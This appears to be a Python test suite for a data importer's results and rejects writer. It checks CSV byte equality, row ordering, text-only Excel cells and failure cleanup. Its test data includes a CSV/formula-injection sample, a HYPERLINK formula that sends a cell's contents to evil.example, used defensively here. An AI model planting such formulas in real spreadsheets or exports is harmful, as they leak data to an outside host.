"""Recorder: the results line it joins itself is byte for byte the one csv.writer writes."""

from __future__ import annotations

import csv
import io
import random
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from importer.cli import main
from importer.errors import Code, Reject, RowWarning, WarningCode
from importer.read.escape import REJECTS_EXTRA_COLUMNS
from importer.read.tables import open_table
from importer.record import workbook
from importer.record.outcomes import RowOutcome, Status
from importer.record.report import RESULTS_COLUMNS, Recorder, csv_line
from tests.test_fuzz import SPECIAL as fuzz_special

ROOT = Path(__file__).resolve().parent.parent

HEADERS = ["First Name", "Email", "Notes"]
# Characters that make csv.writer quote, spreadsheet formula starts, and plain text.
ALPHABET = [",", '"', "\r", "\n", "'", "=", "+", "-", "@", "\t", " ", ";", "\0", "\u2028"]
ALPHABET += ["a", "Z", "7", ".", "é", "€", "😀", "_x000D_"]


def text(rng: random.Random, *, plain: float = 0.6) -> str:
    if rng.random() < plain:
        return rng.choice(["", "ann@example.com", "L-42", "dry-run", "Ada Lovelace"])
    return "".join(rng.choices(ALPHABET, k=rng.randint(1, 6)))


def outcome(rng: random.Random, number: int) -> RowOutcome:
    status = rng.choice(list(Status))
    rejects = tuple(
        Reject(number, rng.choice(list(Code)), text(rng), text(rng) or None, text(rng) or None)
        for _ in range(rng.choice([0, 0, 1, 2]))
    )
    warnings = tuple(
        RowWarning(number, rng.choice(list(WarningCode)), text(rng), text(rng) or None)
        for _ in range(rng.choice([0, 0, 0, 1, 2]))
    )
    ident: Any = rng.choice([None, "", text(rng), 12345])  # an int id takes csv.writer's path
    return RowOutcome(
        number,
        status,
        http_status=rng.choice([None, 201, 200, 409]),
        attempts=rng.randint(0, 3),
        id=ident,
        remote_id=rng.choice([None, text(rng)]),
        rejects=rejects,
        note=rng.choice([None, "", "dry-run", text(rng)]),
        warnings=warnings,
    )


def cases(count: int, seed: int = 7) -> list[tuple[RowOutcome, tuple[str, ...], str | None]]:
    rng = random.Random(seed)
    rows = []
    for number in range(2, count + 2):
        values = tuple(text(rng) for _ in range(rng.choice([2, 3, 4])))
        rows.append((outcome(rng, number), values, rng.choice([None, text(rng)])))
    return rows


def safe(value: str) -> str:
    """A cell that starts like a formula, after any apostrophes, gets one more in front."""
    return "'" + value if value.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) else value


def write_reference(out: Path, rows: list[tuple[RowOutcome, tuple[str, ...], str | None]]) -> None:
    """Both files as csv.writer writes every line, the way Recorder wrote them before."""
    out.mkdir()
    with (
        (out / "results.csv").open("w", newline="", encoding="utf-8") as results_file,
        (out / "rejects.csv").open("w", newline="", encoding="utf-8-sig") as rejects_file,
    ):
        results, rejects = csv.writer(results_file), csv.writer(rejects_file)
        results.writerow(RESULTS_COLUMNS)
        rejects.writerow([*HEADERS, *REJECTS_EXTRA_COLUMNS])
        for o, values, key in rows:
            codes = ";".join(dict.fromkeys(str(r.code) for r in o.rejects))
            message = safe("; ".join(r.message for r in o.rejects))
            results.writerow(
                [
                    o.row_number,
                    o.status,
                    "" if o.http_status is None else o.http_status,
                    o.attempts,
                    o.id or "",
                    o.remote_id or "",
                    codes,
                    message,
                    o.note or "",
                    "" if key is None else safe(key),
                    safe(" | ".join(f"{w.code}: {w.message}" for w in o.warnings)),
                ]
            )
            if o.status is Status.REJECTED:
                cells = [*map(safe, values[: len(HEADERS)]), *[""] * (len(HEADERS) - len(values))]
                fields = ";".join(r.field or r.column or "" for r in o.rejects)
                rejects.writerow([*cells, o.row_number, codes, fields, message])


def record(
    out: Path, rows: list[tuple[RowOutcome, tuple[str, ...], str | None]], order: list[int]
) -> Recorder:
    recorder = Recorder(out, HEADERS)
    for seq in order:
        recorder.record(seq, *rows[seq])
    recorder.close()
    return recorder


def test_results_and_rejects_match_csv_writer_on_tricky_values(tmp_path: Path) -> None:
    rows = cases(3000)
    write_reference(tmp_path / "reference", rows)
    recorder = record(tmp_path / "recorded", rows, list(range(len(rows))))
    for name in ("results.csv", "rejects.csv"):
        assert (tmp_path / "recorded" / name).read_bytes() == (
            tmp_path / "reference" / name
        ).read_bytes(), name
    assert recorder.counts.rows == len(rows)
    assert recorder.counts.rejected == sum(o.status is Status.REJECTED for o, _, _ in rows)
    assert recorder.counts.warned == sum(bool(o.warnings) for o, _, _ in rows)
    assert sum(recorder.counts.by_warning.values()) == sum(len(o.warnings) for o, _, _ in rows)


def test_rows_arriving_out_of_order_are_written_in_input_order(tmp_path: Path) -> None:
    rows = cases(500, seed=11)
    order = list(range(len(rows)))
    rng = random.Random(3)
    for start in range(0, len(order), 40):  # workers finish rows of a window in any order
        window = order[start : start + 40]
        rng.shuffle(window)
        order[start : start + 40] = window
    record(tmp_path / "in_order", rows, list(range(len(rows))))
    recorder = record(tmp_path / "shuffled", rows, order)
    assert recorder.pending == 0
    for name in ("results.csv", "rejects.csv"):
        assert (tmp_path / "shuffled" / name).read_bytes() == (
            tmp_path / "in_order" / name
        ).read_bytes()


# -- rejects.xlsx: text cells that Excel opens, saves and the importer reads back as typed ------

# What Excel or a type-guessing reader would turn into something else, as CSV cells.
AS_TYPED = [
    '=HYPERLINK("http://evil.example/?"&A2,"CV")',
    "+44 20 7946 0958",
    "007",
    "1e5",
    "12345678901234567890",
    "2024-03-04",
    "3/4",
    "TRUE",
    "#N/A",
    "-",
    "@SUM(1+1)",
    "'=typed with an apostrophe",
    "''+two apostrophes",
    "'s-Hertogenbosch",
    " padded ",
    "line\r\nbreaks\rand\ttabs",
    "_x000D_ and _x005F_ typed",
    "<b>&amp;</b> ]]>",
    "\x00\x01\x0b\x1f",
]
# XML cannot hold U+FFFE and U+FFFF: written in Excel's _xFFFE_ escape, which calamine leaves
# as it is, so they are the only characters whose round trip is not exact.
CELL_TEXT = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\ufffe\uffff"))


def rejected(number: int) -> RowOutcome:
    reject = Reject(number, Code.INVALID_EMAIL, 'column "Email": "=x" is bad', "email")
    return RowOutcome(number, Status.REJECTED, rejects=(reject,))


def write_rejects(out: Path, rows: list[tuple[str, ...]]) -> Recorder:
    recorder = Recorder(out, HEADERS)
    for seq, values in enumerate(rows):
        recorder.record(seq, rejected(seq + 2), values)
    recorder.close()
    return recorder


def read_back(path: Path, *, streaming: bool) -> list[tuple[str, ...]]:
    with open_table(path, header_row=1, streaming_threshold=0 if streaming else 1 << 30) as table:
        assert table.engine == ("openpyxl" if streaming else "calamine")
        assert table.headers == [*HEADERS, *REJECTS_EXTRA_COLUMNS]
        return [row.values for row in table.rows]


@pytest.mark.parametrize("streaming", [False, True], ids=["calamine", "openpyxl"])
def test_rejects_xlsx_reads_back_every_cell_as_typed(streaming: bool, tmp_path: Path) -> None:
    rows = [(value, "ann@", value) for value in AS_TYPED]
    rows += [tuple(text(random.Random(n)) for _ in HEADERS) for n in range(300)]
    write_rejects(tmp_path, rows)

    again = read_back(tmp_path / "rejects.xlsx", streaming=streaming)

    assert [values[: len(HEADERS)] for values in again] == rows
    assert [values[len(HEADERS)] for values in again] == [str(n + 2) for n in range(len(rows))]
    # rejects.csv reads back the same
    with open_table(tmp_path / "rejects.csv", header_row=1) as table:
        assert [row.values[: len(HEADERS)] for row in table.rows] == rows


def test_rejects_xlsx_cells_are_text_formatted_as_text_never_formulas(tmp_path: Path) -> None:
    write_rejects(tmp_path, [(value, "ann@", "0044") for value in AS_TYPED])

    sheet = openpyxl.load_workbook(tmp_path / "rejects.xlsx").active
    assert sheet.title == "rejects"
    first = sheet["A2"]
    assert (first.value, first.data_type, first.number_format) == (AS_TYPED[0], "s", "@")
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}
    # a cell the user fills in while fixing a row is text as well: every column is
    columns = sheet.column_dimensions["A"]
    assert (columns.min, columns.max, columns.number_format) == (1, 7, "@")


@settings(max_examples=60, deadline=None, derandomize=True, database=None)
@given(rows=st.lists(st.tuples(CELL_TEXT, CELL_TEXT, CELL_TEXT), min_size=1, max_size=5))
def test_hostile_cells_round_trip_through_rejects_xlsx(rows: list[tuple[str, ...]]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        write_rejects(Path(folder), rows)
        for streaming in (False, True):
            again = read_back(Path(folder) / "rejects.xlsx", streaming=streaming)
            assert [values[: len(HEADERS)] for values in again] == rows


def test_the_fuzz_corpus_bytes_round_trip_through_rejects_xlsx(tmp_path: Path) -> None:
    special = [piece.decode("utf-8", "replace") for piece in fuzz_special]
    rows = [(piece, piece * 3, f"a{piece}b") for piece in special]

    write_rejects(tmp_path, rows)

    for streaming in (False, True):
        again = read_back(tmp_path / "rejects.xlsx", streaming=streaming)
        assert [values[: len(HEADERS)] for values in again] == rows


def test_rejects_xlsx_is_made_only_with_rejects_and_never_left_from_an_earlier_run(
    tmp_path: Path,
) -> None:
    write_rejects(tmp_path, [("Ann", "ann@", "")])
    assert (tmp_path / "rejects.xlsx").is_file()

    recorder = Recorder(tmp_path, HEADERS)
    recorder.record(0, RowOutcome(2, Status.CREATED, http_status=201, attempts=1), ("A", "a@b", ""))
    recorder.close()

    assert not (tmp_path / "rejects.xlsx").exists()
    assert (tmp_path / "rejects.csv").read_text(encoding="utf-8-sig").count("\n") == 1


def test_more_rejects_than_a_sheet_holds_leave_rejects_xlsx_out_and_every_row_in_the_csv(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "SHEET_ROWS", 3)
    rows = [(f"Ann {n}", "ann@", "") for n in range(5)]

    write_rejects(tmp_path, rows)

    assert not (tmp_path / "rejects.xlsx").exists()
    with open_table(tmp_path / "rejects.csv") as table:
        assert [row.values[:3] for row in table.rows] == rows


def test_a_cell_longer_than_excel_holds_leaves_rejects_xlsx_out_and_every_row_in_the_csv(
    tmp_path: Path,
) -> None:
    rows = [("Ann", "ann@", "short"), ("Bob", "bob@", "n" * 32_768), ("Cy", "cy@", "")]

    write_rejects(tmp_path, rows)

    assert not (tmp_path / "rejects.xlsx").exists()
    with open_table(tmp_path / "rejects.csv") as table:
        assert [row.values[:3] for row in table.rows] == rows
    write_rejects(tmp_path, [("Bob", "bob@", "n" * 32_767)])  # Excel's longest cell is kept
    assert read_back(tmp_path / "rejects.xlsx", streaming=False)[0][2] == "n" * 32_767


def test_a_fixed_rejects_xlsx_imports_again_through_the_same_mapping_as_typed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    header = ["Name", "Email", "Phone", *(f"Extra {n}" for n in range(len(AS_TYPED)))]
    rows = [
        ["Ann Lee", "ann@example.com", "+44 20 7946 0958", *AS_TYPED],
        ["Bob Stone", "bob@", "007", *AS_TYPED],
        ["Cy Young", "cy@", "+44 20 7946 0959", *reversed(AS_TYPED)],
    ]
    path = tmp_path / "input.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([header, *rows])
    mapping = str(Path(__file__).parent.parent / "mappings" / "default.yaml")

    assert main(["validate", str(path), "-m", mapping, "--out", str(tmp_path / "one")]) == 1
    first = tmp_path / "one" / "rejects.xlsx"
    assert "rejects.csv, rejects.xlsx, summary.json" in capsys.readouterr().err
    assert main(["validate", str(first), "-m", mapping, "--out", str(tmp_path / "two")]) == 1

    # the error columns of the first round are ignored; every cell arrives as typed
    for name in ("rejects.xlsx", "rejects.csv"):
        with open_table(tmp_path / "two" / name) as table:
            again = [(row.values[: len(header)], row.values[-3]) for row in table.rows]
        assert again == [(tuple(rows[1]), "invalid-email"), (tuple(rows[2]), "invalid-email")]


def _writer_line(fields: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out).writerow(fields)
    return out.getvalue()


@settings(max_examples=400, deadline=None, derandomize=True, database=None)
@given(fields=st.lists(st.text(alphabet=',"\r\n ;|=é\x00\u2028ab'), max_size=12))
def test_results_lines_are_the_lines_csv_writer_writes(fields: list[str]) -> None:
    line = csv_line(fields)
    if line is None:
        assert fields in ([], [""]), fields
    else:
        assert line == _writer_line(fields), fields


def test_results_lines_of_rows_with_warnings_are_csv_writers() -> None:
    warning = 'kept-as-typed: column "Phone": "(599) 555-3288" is not valid, nor "1,2"; sent'
    fields = ["2", "not_attempted", "", "0", "", "", "", "", "dry-run", "a@b.c", warning]
    assert csv_line(fields) == _writer_line(fields)
    assert csv_line(["1", 2]) is None  # type: ignore[list-item]


@settings(max_examples=400, deadline=None, derandomize=True, database=None)
@given(cells=st.lists(st.text(alphabet="&<>_x0Aa1\x00\x1f\r\n\ufffe é"), max_size=8))
def test_rejects_xlsx_rows_escape_each_cell_only_when_the_row_needs_it(cells: list[str]) -> None:
    letters = ["A", "B", "C", "D", "E", "F"]
    each = "".join(
        f'<c r="{column}7" s="1" t="inlineStr"><is><t xml:space="preserve">'
        f"{workbook._cell_xml(cell)}</t></is></c>"
        for column, cell in zip(letters, cells, strict=False)
        if cell
    )
    assert workbook.row_xml(letters, 7, cells) == f'<row r="7">{each}</row>', cells


# A recorder that has written 300 rejects and a row left unsent, then finds the disk full (no
# file may grow) as it finishes the reports; what it raised and what is left, on stdout.
_FULL_DISK = """
import errno, gc, resource, signal, sys
from pathlib import Path
from importer.errors import Code, Reject
from importer.record.outcomes import RowOutcome, Status
from importer.record.report import Recorder

out = Path(sys.argv[1])
recorder = Recorder(out, ["Name", "Email"])
for n in range(2, 302):
    reject = Reject(n, Code.INVALID_EMAIL, "not an e-mail address")
    outcome = RowOutcome(n, Status.REJECTED, rejects=(reject,))
    recorder.record(n - 2, outcome, (f"name {n}", f"bad{n}"))
stopped = Reject(302, Code.INTERRUPTED, "not sent: interrupted")
recorder.record(300, RowOutcome(302, Status.NOT_ATTEMPTED, rejects=(stopped,)), ("x", "x@y.z"))
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
full = min(path.stat().st_size for path in out.iterdir())
resource.setrlimit(resource.RLIMIT_FSIZE, (full, full))
try:
    recorder.close()
except OSError as error:
    print("raised", errno.errorcode[error.errno])
gc.collect()
print(*sorted(path.name for path in out.iterdir()))
"""


def test_a_full_disk_as_the_reports_are_finished_leaves_no_unfinished_workbook(
    tmp_path: Path,
) -> None:
    """The failure is raised for the run to report in one message; rejects.xlsx, which Excel
    would not open, and remaining.csv, which would pass for every row left, are deleted; and
    Python does not complain about a workbook left open ("Exception ignored in ZipFile")."""
    command = [sys.executable, "-c", _FULL_DISK, str(tmp_path)]
    ran = subprocess.run(command, capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert ran.stdout.splitlines() == ["raised EFBIG", "rejects.csv results.csv"]
    assert ran.stderr == ""
